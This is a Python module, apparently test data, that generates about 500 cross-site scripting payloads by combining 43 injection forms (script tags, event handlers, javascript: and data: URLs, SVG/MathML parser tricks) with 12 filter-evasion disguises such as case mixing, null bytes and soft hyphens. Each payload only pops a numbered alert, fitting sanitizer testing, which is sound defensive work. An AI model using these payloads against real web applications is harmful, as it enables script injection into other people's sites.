"""Scripts that somebody might send instead of text: kinds of them, each in many disguises."""

from collections.abc import Callable

# Each says its number, so that a dialog tells which one ran.
KINDS = [
    "<script>alert({n})</script>",
    "<script src=data:text/javascript,alert({n})></script>",
    "</script><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</template></noscript></style><script>alert({n})</script>",
    "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    '" autofocus onfocus=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    "<img src=x onerror=alert({n})>",
    '<img src="x" onerror="alert({n})">',
    "<img/src=x/onerror=alert({n})>",
    "<img src=x onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=javascript:alert({n})>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>x</details>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})></audio>",
    "<input autofocus onfocus=alert({n})>",
    "<p tabindex=1 autofocus onfocus=alert({n})>x</p>",
    "<form><button formaction=javascript:alert({n}) autofocus>x</button></form>",
    "<a href=javascript:alert({n})>x</a>",
    '<a href="java&#x09;script:alert({n})">x</a>',
    '<a href="&#1;javascript:alert({n})">x</a>',
    '<a href="java&shy;script:alert({n})">x</a>',
    '<a href="data:text/html,<script>alert({n})</script>">x</a>',
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=javascript:alert({n})//>",
    "<link rel=stylesheet href='data:text/css,p{{color:red}}'><p style=color:red>{n}</p>",
    "<style>p{{background:url(javascript:alert({n}))}}</style>",
    "<div><template shadowrootmode=open><img src=x onerror=alert({n})></template></div>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
]
DISGUISES: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("onerror", "OnErRoR"),
    lambda text: text.replace("<s", "<\x00s"),
    lambda text: text.replace("script", "scr\u00adipt"),
    lambda text: text.replace("<", "<\u202e"),
    lambda text: text.replace(" ", "\n\t"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;"),
    lambda text: text.replace("<", "<<"),
    lambda text: f"<p><b>{text}</p>",
    lambda text: f"</blockquote></div></section>{text}",
    lambda text: f"<!--{text}-->{text}",
]
PAYLOADS = [
    disguise(kind.format(n=number * len(KINDS) + place))
    for number, disguise in enumerate(DISGUISES)
    for place, kind in enumerate(KINDS)
]
